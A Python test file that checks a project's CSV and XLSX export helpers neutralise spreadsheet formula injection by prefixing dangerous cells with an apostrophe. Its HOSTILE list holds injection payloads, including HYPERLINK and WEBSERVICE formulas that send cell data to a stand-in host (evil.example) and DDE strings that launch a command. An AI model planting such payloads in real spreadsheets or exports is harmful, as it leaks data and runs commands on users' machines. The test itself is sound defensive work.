"""Spreadsheet-safe exports: hostile cells come out as text, never as formulas."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from copnet.core.exports import csv_writer, inert_cell, restore_cell, xlsx_append

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"Click for details")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=",
]
HARMLESS = ["Facebook", "Bé Na, 12 tuổi", "a=b", "", "'quoted"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_leading_cell_gets_an_apostrophe(value):
    assert inert_cell(value) == "'" + value
    assert restore_cell(inert_cell(value)) == value


@pytest.mark.parametrize("value", [*HARMLESS, 42, -5, 3.5, None, True])
def test_other_values_pass_unchanged(value):
    assert inert_cell(value) == value


def test_a_csv_export_reads_back_with_no_cell_starting_a_formula():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["text", "n"])
    writer.writerows([[value, -1] for value in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    # (A carriage return inside a cell is written as a line feed, so it cannot split a row.)
    assert [row[0] for row in rows[1:]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert all(row[0][0] == "'" for row in rows[1:])
    assert {row[1] for row in rows[1:]} == {"-1"}  # numbers stay numbers


def test_an_xlsx_export_has_no_formula_cell():
    book = Workbook()
    for value in HOSTILE + HARMLESS:
        xlsx_append(book.active, [value, 7])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert [c for c in cells if c.data_type == "f"] == []
    # (XML stores a carriage return as a line feed; the apostrophe is what matters.)
    assert [row[0] for row in sheet.iter_rows(values_only=True)][: len(HOSTILE)] == [
        "'" + v.replace("\r", "\n") for v in HOSTILE
    ]


def test_without_the_helper_openpyxl_would_have_written_a_formula():
    # Why the helper exists: the same value appended raw becomes a live formula.
    book = Workbook()
    book.active.append([HOSTILE[0]])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).active["A1"].data_type == "f"
